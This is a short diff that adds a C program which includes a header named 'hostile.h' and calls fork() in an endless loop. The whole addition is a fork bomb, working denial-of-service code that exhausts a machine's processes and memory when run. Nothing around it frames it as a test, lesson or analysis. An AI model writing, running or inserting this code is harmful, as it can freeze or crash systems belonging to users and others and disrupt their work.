@@ -1,0 +1,4 @@
+#include "hostile.h"
+int main(void) {
+  for (;;) fork();
+}
